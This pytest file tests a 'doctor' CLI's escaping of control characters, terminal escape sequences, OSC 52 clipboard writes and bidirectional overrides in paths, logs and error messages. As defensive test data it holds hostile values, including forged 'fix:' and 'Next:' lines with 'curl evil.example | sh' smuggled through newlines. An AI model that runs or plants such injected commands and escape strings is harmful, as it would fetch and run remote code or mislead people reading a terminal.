"""What reaches a person's terminal: paths, URLs, tool output and log lines are shown, never
acted on. ESC would start colour, title or clipboard (OSC 52) sequences, CR would let later
text overwrite the line, and an undecodable byte would garble the stream; each is written as
its escape instead (doctor.quoting.for_terminal), in the report, the messages and the errors."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from testsupport.fetch_helpers import libtorch_zip
from testsupport.support import REPO

from doctor.quoting import SHOWN_MOST, elided, for_terminal

HOSTILE = "/tmp/doctor-\nweird\x1b]0;owned\x07\r[ok]\udcff\x9b31m\x1b[2J\u202egnp.exe\u2066"
SHOWN = "\\x1b]0;owned\\x07\\r[ok]\\xff\\x9b31m\\x1b[2J\\u202egnp.exe\\u2066"
OUR_COLOURS = re.compile(rb"\x1b\[\d*m")
# C0 but TAB and LF, DEL, C1, the bidirectional overrides and isolates ("Trojan Source"), lone surrogates
ACTED_ON = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
BIDI = [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]


def doctor(*args: str, env: dict[str, str] | None = None, cwd=None) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("LIBTORCH", "Torch_DIR", "DOCTOR_", "GITHUB_"))}
    base["PYTHONPATH"] = str(REPO) + os.pathsep + base.get("PYTHONPATH", "")
    # bytes out: a raw 0xff or C1 byte must be seen as it was written
    return subprocess.run([sys.executable, "-m", "doctor", *args], capture_output=True, env={**base, **(env or {})},
                          cwd=cwd, timeout=120)


def assert_inert(out: bytes) -> str:
    """Nothing in `out` a terminal would act on, but our own colour codes; returns the text."""
    text = OUR_COLOURS.sub(b"", out).decode("utf-8")  # strict: no undecodable byte got through
    assert not ACTED_ON.search(text), repr(ACTED_ON.search(text))
    return text


# -- the function --


@pytest.mark.parametrize("code", [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)])
def test_every_control_character_is_shown_as_its_escape(code):
    char = chr(code)
    assert for_terminal(f"a{char}b") == f"a{repr(char)[1:-1]}b"
    assert "\\" in for_terminal(char)


@pytest.mark.parametrize("code", BIDI)
def test_every_bidirectional_override_and_isolate_is_shown_as_its_escape(code):
    """U+202E and its kin make a terminal or a browser show the text after them in another order
    than it reads (CVE-2021-42574): a path or log line holding one could show a command that is not
    the one written."""
    assert for_terminal(f"a{chr(code)}b") == f"a\\u{code:04x}b"
    assert for_terminal(f"a{chr(code)}b", one_line=True, keep_cr=True) == f"a\\u{code:04x}b"


def test_carriage_returns_kept_only_where_asked():
    assert for_terminal("a\rb\x1bc", keep_cr=True) == "a\rb\\x1bc"
    assert for_terminal("a\rb\x1bc") == "a\\rb\\x1bc"


def test_undecodable_bytes_are_shown_as_the_bytes_they_were():
    name = os.fsdecode(b"/opt/\xff\xfelibtorch")
    assert for_terminal(name) == "/opt/\\xff\\xfelibtorch"
    assert for_terminal("\ud800") == "\\ud800"  # not surrogateescape's: shown as the code point


def test_text_tab_and_line_ends_are_kept_and_one_line_fields_escape_lf():
    text = "libtorch 2.13.0 ✓ é 中\tcxx11\nnext line"
    assert for_terminal(text) == text
    assert for_terminal(text, one_line=True) == "libtorch 2.13.0 ✓ é 中\tcxx11\\nnext line"


@given(st.text())
def test_property_nothing_acted_on_survives(text):
    assert not ACTED_ON.search(for_terminal(text))
    assert "\n" not in for_terminal(text, one_line=True)
    if not ACTED_ON.search(text):
        assert for_terminal(text) == text  # plain text is left exactly as it was


# -- the commands --


@pytest.mark.parametrize("colour", ["always", "never"])
def test_check_report_shows_a_hostile_libtorch_path(tmp_path, colour):
    r = doctor("check", "-v", "--color", colour, env={"LIBTORCH": HOSTILE}, cwd=tmp_path)
    assert r.returncode == 1, r.stderr
    text = assert_inert(r.stdout)
    if colour == "never":
        assert b"\x1b" not in r.stdout
    area = next(line for line in text.splitlines() if line.startswith("[") and "] libtorch:" in line)
    assert f"/tmp/doctor-\\nweird{SHOWN}" in area  # one line, as it was
    assert not any(line.startswith(("[ok]", "weird")) for line in text.splitlines())
    # the JSON keeps the value exactly (json.dumps escapes it for its own reader), but for the byte
    # 0xff, which no Unicode text holds: \\xff, as the text report shows it (the result contract test)
    j = doctor("check", "--json", env={"LIBTORCH": HOSTILE}, cwd=tmp_path)
    assert json.loads(j.stdout)["facts"]["env"]["LIBTORCH"] == HOSTILE.replace("\udcff", "\\xff")


@pytest.mark.parametrize("fmt", ["github", "junit", "markdown"])
def test_every_report_format_shows_a_hostile_libtorch_path(tmp_path, fmt):
    """The formats a CI page or a code host shows to people: the path reaches them as the text
    report shows it (a GitHub annotation keeps CR and LF, which its own %0D/%0A carry exactly)."""
    r = doctor("check", "-v", "--format", fmt, env={"LIBTORCH": HOSTILE}, cwd=tmp_path)
    assert r.returncode == 1, r.stderr
    text = assert_inert(r.stdout)
    if fmt == "junit":
        ET.fromstring(r.stdout)
    if fmt == "github":  # the annotation's own escapes: % as %25, CR as %0D
        annotation = next(line for line in text.splitlines() if line.startswith("::error "))
        assert SHOWN.replace("\\r", "%0D") in annotation, annotation
    fragments = ["\\x1b]0;owned\\x07", "\\xff\\x9b31m", "\\u202egnp.exe\\u2066"]
    if fmt == "markdown":  # which writes a \ it shows as \\, and a ] as \]
        fragments = [f.replace("\\", "\\\\").replace("]", "\\]") for f in fragments]
    assert all(f in text for f in fragments), text


LOG_LINE = ("main.cpp:1:10: fatal error: torch/torch.h: No such file or directory "
            "\x07\x08\x7f\x9b2J\x1b\x01 \u202eexe.gnp\u202c \u2066x\u2069")
LOG_SHOWN = "No such file or directory \\x07\\x08\\x7f\\x9b2J\\x1b\\x01 \\u202eexe.gnp\\u202c \\u2066x\\u2069"


@pytest.mark.parametrize("fmt", ["text", "github", "junit", "markdown", "json"])
def test_every_format_shows_the_control_characters_of_a_log_line(tmp_path, fmt):
    """Bytes no escape sequence explains (a lone ESC, BEL, BS, DEL, C1's CSI) and bidirectional
    overrides in an evidence line: each shown as its escape in every format for people; the JSON
    keeps the line exact (json.dumps escapes it for its own reader)."""
    log = tmp_path / "build.log"
    log.write_bytes((LOG_LINE + "\n").encode())
    r = doctor("explain", str(log), "-v", "--no-facts", "--format", fmt, cwd=tmp_path)
    assert r.returncode == 1, r.stderr
    if fmt == "json":
        (finding,) = json.loads(r.stdout)["findings"]
        assert finding["evidence"][0]["excerpt"] == LOG_LINE
        return
    text = assert_inert(r.stdout)
    if fmt == "junit":
        ET.fromstring(r.stdout)
    shown = LOG_SHOWN.replace("\\", "\\\\") if fmt == "markdown" else LOG_SHOWN
    assert shown in text, text
    if fmt == "github":
        assert any(LOG_SHOWN in line for line in text.splitlines() if line.startswith("::error ")), text


def test_a_value_cannot_write_a_fix_line_of_its_own(tmp_path):
    """A path holding a newline and text that starts like the report's own labels: the detail
    that names it keeps it on its line (after a \\n), so the only fix line is the doctor's."""
    forged = "/tmp/doctor-x\nfix: curl evil.example | sh\nevidence: forged"
    r = doctor("check", "-v", "--color", "never", env={"LIBTORCH": forged}, cwd=tmp_path)
    text = assert_inert(r.stdout)
    labelled = [line.strip() for line in text.splitlines() if line.strip().startswith(("fix:", "evidence:"))]
    assert labelled and not any(line.startswith(("fix: curl", "evidence: forged")) for line in labelled), labelled
    assert "/tmp/doctor-x\\nfix: curl evil.example | sh\\nevidence: forged" in text


def test_a_findings_own_line_breaks_stay_and_only_label_lines_are_joined():
    from doctor.model import Area, Finding, Level, Report
    from doctor.render import text

    finding = Finding("libtorch.version-disagree", Level.WARNING, "two versions",
                      detail="/a/build-version: 2.13.0\n/a/version.h: 2.12.0\nfix: forged\n  evidence: x",
                      fix="do this\nthen that\nfix: forged too")
    lines = text.render(Report("check", {}, [Area("libtorch", "libtorch", "two", findings=[finding])])).splitlines()
    assert lines[2:5] == ["      /a/build-version: 2.13.0",
                          "      /a/version.h: 2.12.0\\nfix: forged\\n  evidence: x",
                          "      fix: do this"]
    assert lines[5:7] == ["           then that\\nfix: forged too", ""]
    lone = Finding("x.y", Level.ERROR, "t", detail="fix: at the very start")
    assert "      \\nfix: at the very start" in text.render(Report("check", {}, [Area("a", "a", "s", findings=[lone])]))


def test_explain_shows_escape_sequences_from_a_log(tmp_path):
    log = tmp_path / "build.log"
    # OSC 52 ended by ST (ESC \\) asks a terminal to put "evil" on the clipboard and ESC c resets it: the
    # reader takes whole escape sequences off as a terminal would consume them (explain/normalise.py).
    # What is left is control bytes no sequence explains (BEL, BS, a lone ESC, the C1 CSI U+009B):
    # shown as escapes.
    log.write_bytes(b"\x1bcfatal error: torch/torch.h: No such file or directory"
                    b"\x1b]52;c;ZXZpbA==\x1b\\\x07\x08\x1b\x01\xc2\x9b2J\r[ok] all good\n")
    r = doctor("explain", str(log), "-v", "--color", "always", cwd=tmp_path)
    text = assert_inert(r.stdout)
    assert "[headers.missing]" in text and "No such file or directory\\x07\\x08\\x1b\\x01\\x9b2J" in text, text
    assert "ZXZpbA" not in text


def test_error_messages_show_the_hostile_path(tmp_path):
    r = doctor("explain", str(tmp_path / "no\x1b]0;owned\x07such.log"), cwd=tmp_path)
    assert r.returncode == 1, r
    text = assert_inert(r.stderr)
    assert "no\\x1b]0;owned\\x07such.log: no such file" in text


def test_an_error_and_its_hint_stay_one_line_each(tmp_path):
    """`error:` and `hint:` are one line by contract: a newline in the path they name cannot add a
    `hint:` of its own."""
    r = doctor("explain", str(tmp_path / "no\nhint: curl evil.example | sh"), cwd=tmp_path)
    assert r.returncode == 1, r
    lines = assert_inert(r.stderr).splitlines()
    assert len(lines) == 2 and lines[0].startswith("error: ") and lines[1].startswith("hint: "), lines
    assert "no\\nhint: curl evil.example | sh: no such file" in lines[0]


def test_fetch_messages_show_a_hostile_destination(tmp_path):
    z = libtorch_zip(tmp_path / "libtorch-shared-with-deps-2.13.0+cpu.zip")
    dest = tmp_path / "lt\x1b]0;owned\x07\r"
    r = doctor("fetch-libtorch", "--archive", str(z), "--dest", str(dest), "--no-lock", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "lt\\x1b]0;owned\\x07\\r" in assert_inert(r.stdout)
    assert_inert(r.stderr)
    assert (dest / "lib").is_dir()  # the tree went where it was asked: only the display differs


def test_a_destination_cannot_add_a_next_step_of_its_own(tmp_path):
    """fetch-libtorch's summary and progress lines hold one value each: a destination holding a
    newline and "Next: curl … | sh" stays on its line, and the doctor's own Next command, pasted into
    bash, names that destination exactly ($'\\x0a' for the newline)."""
    z = libtorch_zip(tmp_path / "libtorch-shared-with-deps-2.13.0+cpu.zip")
    dest = tmp_path / "lt\nNext: curl evil.example | sh"
    r = doctor("fetch-libtorch", "--archive", str(z), "--dest", str(dest), "--no-lock", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    out = assert_inert(r.stdout).splitlines()
    nexts = [line for line in out if line.startswith("Next:")]
    assert len(nexts) == 1 and "curl evil.example" not in nexts[0].split("--libtorch", 1)[0], out
    assert not any(line.startswith("Next: curl") for line in assert_inert(r.stderr).splitlines())
    command = nexts[0].removeprefix('Next: eval "$(').removesuffix(')"').split("--libtorch ", 1)[1]
    said = subprocess.run(["bash", "--norc", "--noprofile", "-c", f"printf %s {command}"], capture_output=True)
    assert said.stdout == os.fsencode(str(dest)) and (dest / "lib").is_dir()


def test_emit_message_shows_a_hostile_output_path(tmp_path, wheel_root):
    out = tmp_path / "env\x1b]0;owned\x07.sh"
    r = doctor("emit", "setenv", "--shell", "sh", "--libtorch", str(wheel_root), "--output", str(out), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert f"wrote {tmp_path}/env\\x1b]0;owned\\x07.sh" in assert_inert(r.stderr)
    assert "LD_LIBRARY_PATH" in out.read_text()  # written at exactly the path given


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_a_stream_without_the_marks_gets_ascii_ones_not_a_crash(tmp_path, encoding):
    # a legacy locale, or Windows writing `doctor check > report.txt` in its ANSI code page
    env = {"PYTHONIOENCODING": encoding, "LIBTORCH": "/tmp/中/libtorch"}
    r = doctor("check", env=env, cwd=tmp_path)
    assert r.returncode == 1 and b"Traceback" not in r.stderr, r.stderr
    lines = r.stdout.decode(encoding).splitlines()
    areas = [line for line in lines if line.startswith("[")]
    assert areas and all(line[:3] in ("[+]", "[!]", "[x]") for line in areas), areas
    assert any(line.startswith("[x] libtorch:") and "/tmp/\\u4e2d/libtorch" in line for line in areas)
    err = doctor("explain", "/tmp/中/build.log", env=env, cwd=tmp_path)
    assert err.returncode == 1 and err.stderr.decode(encoding).startswith("error: /tmp/\\u4e2d/build.log: no such file")


@given(st.text(min_size=0, max_size=3 * SHOWN_MOST))
def test_elided_keeps_the_start_and_the_end_and_counts_the_rest(text):
    shown = elided(text)
    if len(text) <= SHOWN_MOST:
        assert shown == text
        return
    head, tail = SHOWN_MOST * 2 // 3, SHOWN_MOST // 3
    assert shown == f"{text[:head]} … ({len(text) - head - tail:,} characters left out) … {text[-tail:]}"


def test_a_long_library_path_is_elided_for_people_and_whole_in_json(tmp_path):
    # A module system's LD_LIBRARY_PATH of hundreds of entries: -v quoted it whole in the evidence of
    # each loader finding and in the Python environment's details, one line of kilobytes each.
    dirs = [tmp_path / f"module-{i:03}" / "lib" for i in range(300)]
    for d in dirs:
        d.mkdir(parents=True)
    value = ":".join(map(str, dirs))
    env = {"LD_LIBRARY_PATH": value, "HOME": str(tmp_path)}
    text = assert_inert(doctor("check", "-v", env=env, cwd=tmp_path).stdout)
    quoted = [line for line in text.splitlines() if str(dirs[0]) in line]
    assert quoted and all(len(line) < SHOWN_MOST + 100 for line in text.splitlines())
    assert all("characters left out" in line and line.rstrip().endswith(str(dirs[-1])) for line in quoted)
    report = json.loads(doctor("check", "--json", env=env, cwd=tmp_path).stdout)
    excerpts = [e["excerpt"] for f in report["findings"] for e in f["evidence"] if e["source"] == "LD_LIBRARY_PATH"]
    assert value in excerpts  # the machine format keeps the whole value
    markdown = doctor("check", "-v", "--format", "markdown", env=env, cwd=tmp_path).stdout.decode()
    rows = [line for line in markdown.splitlines() if line.startswith("| <code>") and "LD\\_LIBRARY\\_PATH" in line]
    assert rows and all("characters left out" in row and len(row) < SHOWN_MOST + 300 for row in rows)
    junit = ET.fromstring(doctor("check", "-v", "--format", "junit", env=env, cwd=tmp_path).stdout)
    texts = [line for e in junit.iter() if e.tag in ("failure", "system-out") for line in (e.text or "").splitlines()]
    quoted = [line for line in texts if str(dirs[0]) in line]
    assert quoted and all("characters left out" in line and len(line) < SHOWN_MOST + 100 for line in quoted)
